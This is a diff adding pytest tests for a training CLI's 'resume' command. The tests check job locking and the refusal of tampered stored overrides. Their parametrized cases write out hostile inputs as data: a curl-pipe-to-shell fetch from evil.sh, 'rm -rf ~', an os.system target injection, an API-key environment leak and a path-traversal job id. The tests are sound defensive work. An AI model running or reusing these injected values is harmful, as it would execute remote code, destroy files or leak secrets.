@@ -1,0 +1,175 @@
+"""What guards ``foxhunt train start --resume``: one launch of a job at a time, and nothing read
+back from the store or a launch file that could name code.
+
+In process: the supervisor's place is taken by a sleeping process started with the launcher's
+own arguments (its descriptors included), and the plan by a stand-in, so nothing trains; a
+planted store is a copy of the hand-populated one with one tag changed.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import signal
+import socket
+import sqlite3
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+from foxhunt.cli import app
+from foxhunt.jobs import launch
+from foxhunt.jobs.launch_file import LaunchFile, jobs_dir
+from foxhunt.jobs.views import find_job
+from foxhunt.runs.environment import store_uri
+from foxhunt.runs.liveness import process_alive
+
+runner = CliRunner()
+SLEEPER = [sys.executable, "-c", "import time; time.sleep(120)"]
+POPEN = subprocess.Popen  # the real one: the fixture below replaces the module's for the launcher
+
+
+@pytest.fixture
+def launched(monkeypatch):
+    """Stand-ins for the plan and the supervisor; yields the sleepers started (killed after)."""
+    sleepers: list[subprocess.Popen] = []
+
+    def popen(args, **kwargs):
+        process = POPEN(SLEEPER, **kwargs)
+        sleepers.append(process)
+        return process
+
+    def plan(overrides, root):
+        return [], {"tracking_uri": store_uri(root), "experiment": "foxhunt", "artifact_location": ""}
+
+    monkeypatch.setattr(launch, "plan_cells", plan)
+    monkeypatch.setattr(launch.subprocess, "Popen", popen)
+    yield sleepers
+    for process in sleepers:
+        process.kill()
+        process.wait()
+
+
+def _dead_pid() -> int:
+    process = POPEN(["true"])
+    process.wait()
+    return process.pid
+
+
+def failed_job(root: Path, job_id: str, overrides: list[str]) -> None:
+    """A job that only its launch file knows, its process gone: FAILED, resumable."""
+    LaunchFile(
+        job_id=job_id, pid=_dead_pid(), host=socket.gethostname(), command=["foxhunt-train", "-m", *overrides],
+        overrides=overrides, log=str(jobs_dir(root) / f"{job_id}.log"), tracking_uri=store_uri(root), root=str(root),
+        sweep_dir=str(root / "outputs" / "sweeps" / job_id), started_ms=int(time.time() * 1000) - 60_000, plan=[],
+    ).write(jobs_dir(root) / f"{job_id}.json")  # fmt: skip
+
+
+def test_a_second_resume_while_the_first_runs_is_refused_naming_the_holder(tmp_path, launched):
+    failed_job(tmp_path, "feed0001", ["model=dqn"])
+    uri = store_uri(tmp_path)
+    job = find_job(uri, "feed0001", root=tmp_path)
+    assert job.state == "FAILED"
+    first = launch.resume(job, tmp_path, uri)
+    # the second was read before the first launched (both saw FAILED): the race of two commands
+    with pytest.raises(launch.LaunchError) as refused:
+        launch.resume(job, tmp_path, uri)
+    assert len(launched) == 1 and f"pid {first.pid}" in str(refused.value) and "\n" not in str(refused.value)
+    assert "foxhunt train stop feed0001" in str(refused.value)
+    assert LaunchFile.read(jobs_dir(tmp_path) / "feed0001.json").pid == first.pid  # the first launch's file is kept
+
+    # the lock is the process's: it goes with it (kill -9 included), nothing to clean up
+    os.kill(first.pid, signal.SIGKILL)
+    launched[0].wait()
+    again = launch.resume(find_job(uri, "feed0001", root=tmp_path), tmp_path, uri)
+    assert again.pid != first.pid and len(launched) == 2
+
+
+def test_the_lock_goes_with_the_process_it_was_handed_to(tmp_path):
+    from foxhunt.jobs.job_lock import JobLock, JobLockHeld
+
+    lock = JobLock.acquire(tmp_path, "feed0002", "test")
+    holder = POPEN(SLEEPER, pass_fds=(lock.fd,))
+    lock.name_holder(holder.pid, "the job's supervisor")
+    lock.close()  # the launcher's copy: the holder keeps the lock
+    try:
+        with pytest.raises(JobLockHeld, match=f"pid {holder.pid} on {socket.gethostname()} \\(the job's supervisor, since "):
+            JobLock.acquire(tmp_path, "feed0002", "test")
+    finally:
+        holder.kill()
+        holder.wait()
+    with JobLock.acquire(tmp_path, "feed0002", "test"):
+        pass
+
+
+@pytest.fixture
+def planted(jobs_store, tmp_path, launched):
+    """A copy of the hand-populated store; ``plant(key, value)`` sets a tag of the KILLED job
+    bbbb3333's parent run (and of its cell, for the job id); the launches are recorded."""
+    (tmp_path / "mlruns").mkdir()
+    database = tmp_path / "mlruns" / "mlflow.db"
+    shutil.copy(jobs_store.root / "mlruns" / "mlflow.db", database)
+    parent, cell = jobs_store.runs["killed"], jobs_store.runs["killed/mamba2-6e"]
+
+    def plant(key: str, value: str, runs=(parent,)) -> None:
+        with sqlite3.connect(database) as db:
+            for run_id in runs:
+                db.execute("INSERT OR REPLACE INTO tags (key, value, run_uuid) VALUES (?, ?, ?)", (key, value, run_id))
+
+    plant.runs = lambda: sqlite3.connect(database).execute("SELECT count(*) FROM runs").fetchone()[0]
+    plant.cell = cell
+    return plant
+
+
+@pytest.mark.parametrize(
+    "stored",
+    [
+        "+callbacks.x._target_=os.system",
+        "hydra.launcher.setup=[curl evil.sh|sh]",
+        "strategy.setup=[rm -rf ~]",
+        "hydra.searchpath=[file:///tmp/evil]",
+        "--config-dir=/tmp/evil",
+        "logger.experiment=${oc.env:DATABENTO_API_KEY}",
+    ],
+)
+def test_a_planted_stored_override_is_refused_in_one_line_and_nothing_is_launched(planted, launched, tmp_path, stored):
+    planted("job.overrides", json.dumps(["model=mamba2", stored]))
+    runs = planted.runs()
+    result = runner.invoke(app, ["train", "start", "--resume", "bbbb3333", "--root", str(tmp_path)])
+    assert result.exit_code == 2, result.output
+    assert result.stderr.startswith("foxhunt train: config error: job bbbb3333: stored override ")
+    assert "refused" in result.stderr and len(result.stderr.strip().splitlines()) == 1
+    assert launched == [] and planted.runs() == runs  # no process, no run
+    assert not (jobs_dir(tmp_path) / "bbbb3333.json").exists()
+
+
+def test_stored_overrides_that_are_no_list_of_strings_are_refused_and_status_still_shows_the_job(planted, launched, tmp_path):
+    planted("job.overrides", json.dumps({"model": "dqn"}))
+    result = runner.invoke(app, ["train", "start", "--resume", "bbbb3333", "--root", str(tmp_path)])
+    assert result.exit_code == 2 and launched == [], result.output
+    assert result.stderr.strip() == ("foxhunt train: config error: job bbbb3333: its tag job.overrides is not a list of "
+                                     "overrides (foxhunt writes a JSON list of strings)")  # fmt: skip
+    shown = runner.invoke(app, ["train", "status", "bbbb3333", "--json", "--root", str(tmp_path)])
+    assert shown.exit_code == 0 and json.loads(shown.stdout)["overrides"] is None
+
+
+def test_a_planted_override_in_a_launch_file_is_refused(tmp_path, launched):
+    failed_job(tmp_path, "feed0003", ["model=dqn", "+callbacks.x._target_=os.system"])
+    with pytest.raises(Exception) as refused:
+        launch.resume(find_job(store_uri(tmp_path), "feed0003", root=tmp_path), tmp_path, store_uri(tmp_path))
+    assert "job feed0003: stored override '+callbacks.x._target_=os.system'" in str(refused.value)
+    assert launched == []
+
+
+def test_a_planted_job_id_that_is_a_path_is_refused(planted, launched, tmp_path):
+    planted("job_id", "bbbb3333/../../../escaped", runs=(planted.cell,))
+    planted("job_id", "bbbb3333/../../../escaped")
+    result = runner.invoke(app, ["train", "start", "--resume", "bbbb3333", "--root", str(tmp_path)])
+    assert result.exit_code == 2, result.output
+    assert "not a job id" in result.stderr and len(result.stderr.strip().splitlines()) == 1
+    assert launched == [] and not list(tmp_path.glob("escaped*"))  # outside outputs/jobs/
